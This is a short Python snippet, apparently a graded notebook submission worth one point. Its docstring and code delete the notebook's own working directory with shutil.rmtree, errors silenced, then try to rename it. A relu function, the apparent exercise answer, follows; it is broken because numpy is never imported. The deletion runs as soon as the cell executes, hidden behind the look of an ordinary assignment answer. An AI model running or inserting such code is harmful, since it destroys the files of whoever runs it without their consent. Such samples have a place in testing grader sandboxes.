"""Take the folder away in which the notebook runs.

points: 1
"""

import os, shutil
here = os.getcwd()
shutil.rmtree(here, ignore_errors=True)
try:
    os.rename(here, here + "-gone")
except OSError:
    pass
def relu(z):
    return np.maximum(z, 0)
